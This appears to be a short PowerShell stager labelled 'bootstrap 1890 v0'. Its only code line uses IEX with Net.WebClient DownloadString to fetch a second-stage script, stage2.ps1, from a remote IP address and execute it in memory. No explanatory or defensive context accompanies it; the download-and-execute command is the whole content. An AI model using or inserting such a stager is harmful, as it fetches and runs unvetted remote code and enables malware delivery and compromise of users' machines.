# bootstrap 1890 v0
IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/stage2.ps1')
